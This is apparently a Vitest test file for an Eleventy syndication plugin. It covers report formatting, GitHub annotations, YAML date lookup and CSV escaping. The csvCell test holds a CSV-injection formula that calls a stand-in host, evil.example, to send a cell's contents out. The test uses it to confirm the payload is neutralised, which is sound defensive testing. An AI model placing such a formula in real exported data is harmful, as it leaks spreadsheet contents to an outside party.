import { describe, expect, it } from "vitest";
import { formatFinding, formatReport, formatWarnings, githubAnnotation } from "../../plugins/syndication/report/format.js";
import { SyndicationError } from "../../plugins/syndication/report/error.js";
import type { Finding } from "../../plugins/syndication/report/finding.js";
import { csvCell } from "../../plugins/syndication/report/table.js";
import yaml from "js-yaml";
import { locateFields, writtenDates } from "../../plugins/syndication/reprint/locate.js";
import { suggest } from "../../plugins/syndication/util/suggest.js";

const finding = (f: Omit<Finding, "severity" | "url">): Finding => ({ severity: "error", url: `docs/rules.md#${f.rule}`, ...f });

describe("the report", () => {
  const problems = [
    finding({ rule: "licence-required", file: "src/b.md", line: 4, field: "syndication.licence", message: "is missing", fix: "add it" }),
    finding({ rule: "syndication-object", file: "src/a.md", field: "syndication", message: "is missing", fix: "add a block" }),
    finding({ rule: "field-type", file: "src/b.md", line: 2, field: "syndication.source", message: "is empty", fix: "name the publisher" }),
  ];

  it("prints one line a problem, by file and line, with what is wrong, how to fix it and the rule", () => {
    expect(formatReport(problems)).toBe(
      [
        "eleventy-plugin-syndication: 3 problems in 2 reprints:",
        "src/a.md  syndication  is missing, add a block  [syndication-object]",
        "src/b.md:2  syndication.source  is empty, name the publisher  [field-type]",
        "src/b.md:4  syndication.licence  is missing, add it  [licence-required]",
      ].join("\n"),
    );
  });

  it("is carried by an error that prints no stack trace, whose problems keep file, line, field, message and fix", () => {
    const error = new SyndicationError(problems);
    expect(error.skipOriginalStack).toBe(true);
    expect(error.message).toBe("eleventy-plugin-syndication: 3 problems in 2 reprints (listed above); no page was written.");
    expect(error.report).toBe(formatReport(problems));
    expect(error.stage).toBe("data");
    expect(error.problems[0]).toMatchObject({ file: "src/a.md", field: "syndication", message: "is missing", fix: "add a block", rule: "syndication-object" });
  });

  it("says a warning shared by more than five files once, naming five and counting the rest", () => {
    const warn = (file: string) => ({ ...finding({ rule: "banner-shown", file, field: "content", message: "has no attribution banner", fix: "add one" }), severity: "warning" as const });
    expect(formatWarnings(["a", "b"].map(warn))).toEqual(["warning: a  content  has no attribution banner, add one  [banner-shown]", "warning: b  content  has no attribution banner, add one  [banner-shown]"]);
    expect(formatWarnings(["a", "b", "c", "d", "e", "f", "g"].map(warn))).toEqual([
      "warning: 7 files (a, b, c, d, e, and 2 more)  content  has no attribution banner, add one  [banner-shown]",
    ]);
  });
});

describe("formatFinding", () => {
  it("shows every part on one line, a lock's values and a file's name escaped", () => {
    const line = formatFinding({
      file: "syndication.lock.json",
      field: "lock",
      message: "has the address /a/\n/b/\u001b[2J for x\u202e.md",
      fix: "correct it",
    });
    expect(line).toBe("syndication.lock.json  lock  has the address /a/\\u000A/b/\\u001B[2J for x\\u202E.md, correct it");
  });
});

describe("githubAnnotation", () => {
  it("puts the rule in the title and the place in properties, escaped as GitHub Actions asks", () => {
    const line = githubAnnotation(finding({ rule: "url-valid", file: "src/a,b:c.md", line: 5, column: 3, field: "syndication.originalUrl", message: "is 100% wrong\nhere", fix: "fix it" }));
    expect(line).toBe("::error file=src/a%2Cb%3Ac.md,line=5,col=3,title=url-valid::syndication.originalUrl is 100%25 wrong%0Ahere, fix it");
    expect(githubAnnotation({ ...finding({ rule: "expiring-soon", file: "a.md", field: "syndication.expires", message: "ends", fix: "renew" }), severity: "warning" })).toBe(
      "::warning file=a.md,title=expiring-soon::syndication.expires ends, renew",
    );
  });
});

describe("locateFields", () => {
  it("finds each syndication field's line (and writtenDates its date as written)", () => {
    const file = "---\ntitle: T\nsyndication:\n  source: X\n\n  published: 2021-13-45\n---\nbody\n";
    const { lines } = locateFields(file);
    expect(Object.fromEntries(lines)).toEqual({ "": 1, syndication: 3, source: 4, published: 6 });
    // The text as written comes from writtenDates, the scan the build uses.
    expect(writtenDates(file, yamlOf(file)).get("published")).toBe("2021-13-45");
  });

  it("finds a field brought in by an alias or a merge key where it is written; the block's own field wins", () => {
    const file = "---\nwire: &w\n  source: X\n  published: 2021-02-30\nsyndication:\n  <<: *w\n  source: Y\n---\n";
    expect(Object.fromEntries(locateFields(file).lines)).toEqual({ "": 1, syndication: 5, source: 7, published: 4 });
    const aliased = "---\nwire: &w { source: X }\nsyndication: *w\n---\n";
    expect(Object.fromEntries(locateFields(aliased).lines)).toEqual({ "": 1, syndication: 3, source: 2 });
  });

  it("finds nothing in a file without front matter", () => {
    expect(locateFields("just text").lines.size).toBe(0);
  });
});

describe("suggest", () => {
  it("suggests only close matches", () => {
    expect(suggest("orignalUrl", ["source", "originalUrl"])).toBe("originalUrl");
    expect(suggest("colour", ["source", "originalUrl"])).toBeUndefined();
  });
});

describe("writtenDates", () => {
  it("finds the dates of the front matter as written", () => {
    const file = "---\ntitle: T\nsyndication:\n  published: 2021-13-45\n  expires: 2022-01-02  # renewed\n---\npublished: 1999-01-01\n";
    expect(Object.fromEntries(writtenDates(file, yamlOf(file)))).toEqual({ published: "2021-13-45", expires: "2022-01-02" });
    const zoned = "---\nsyndication:\n  published: 2021-12-31T23:30:00-05:00\n---\n";
    expect(writtenDates(zoned, yamlOf(zoned)).get("published")).toBe("2021-12-31T23:30:00-05:00");
    expect(writtenDates("no front matter", {}).size).toBe(0);
  });

  it("finds them in flow style, and under withdrawn, and is not misled by the same key elsewhere", () => {
    const flow = "---\nsyndication: { source: W, published: 2021-02-30, withdrawn: { date: 2024-02-30 } }\n---\n";
    expect(Object.fromEntries(writtenDates(flow, yamlOf(flow)))).toEqual({ published: "2021-02-30", "withdrawn.date": "2024-02-30" });
    const elsewhere = "---\nsyndication:\n  expires: 2021-02-30\nnotes:\n  expires: 2030-01-01\n---\n";
    expect(writtenDates(elsewhere, yamlOf(elsewhere)).get("expires")).toBe("2021-02-30");
    // A real date that another key also holds, written the same: found, and real.
    const twice = "---\ndate: 2021-03-02\nsyndication:\n  published: 2021-03-02\n---\n";
    expect(writtenDates(twice, yamlOf(twice)).get("published")).toBe("2021-03-02");
  });

  it("finds them by every route YAML takes to a date: tags, quotes and escapes, aliases, merge keys", () => {
    const routes = [
      "syndication:\n  published: !!timestamp 2021-02-30",
      'syndication:\n  published: !!timestamp "2021-02-30"',
      "syndication:\n  published: !<tag:yaml.org,2002:timestamp> '2021-02-30'",
      'syndication:\n  published: !!timestamp "2021\\x2d02-30"',
      "syndication:\n  published: !!timestamp >-\n    2021-02-30",
      "day: &d 2021-02-30\nother: 2021-03-02\nsyndication:\n  published: *d",
      "base: &b { published: 2021-02-30 }\nsyndication:\n  <<: *b",
      "base: &b\n  published: 2021-02-30\nsyndication:\n  <<: [*b]\n  source: W",
      "s: &s { published: 2021-02-30 }\nsyndication: *s",
    ];
    for (const route of routes) {
      const file = `---\n${route}\n---\n`;
      expect(yamlOf(file), route).toMatchObject({ published: new Date(Date.UTC(2021, 2, 2)) });
      expect(writtenDates(file, yamlOf(file)).get("published"), route).toBe("2021-02-30");
    }
  });

  it("takes no text that does not give the date YAML gave, and none from front matter js-yaml cannot read", () => {
    // A layout or data file may set the date: the front matter's text is not it.
    const other = "---\nsyndication:\n  published: 2021-02-30\n---\n";
    expect(writtenDates(other, { published: new Date(Date.UTC(2020, 0, 1)) }).size).toBe(0);
    expect(writtenDates("---\nsyndication: [\n---\n", { published: new Date(0) }).size).toBe(0);
  });
});

/** The syndication block as Eleventy's YAML parser (js-yaml 4) reads it. */
function yamlOf(file: string): unknown {
  return (yaml.load(file.split("---")[1]!) as { syndication?: unknown }).syndication;
}

describe("csvCell", () => {
  it("turns a cell a spreadsheet would run into text, as OWASP advises: a leading ' and quotes", () => {
    expect(csvCell('=HYPERLINK("https://evil.example/?"&A1,"Click")')).toBe(`"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`);
    for (const start of ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20"]) {
      expect(csvCell(`${start}1+1`)).toBe(`"'${start}1+1"`);
    }
  });

  it("leaves other cells as RFC 4180 writes them", () => {
    expect(csvCell("Example Wire")).toBe("Example Wire");
    expect(csvCell("/reprints/2022/01/kept/")).toBe("/reprints/2022/01/kept/");
    expect(csvCell("a, b")).toBe('"a, b"');
    expect(csvCell('say "x"')).toBe('"say ""x"""');
    expect(csvCell("")).toBe("");
  });
});
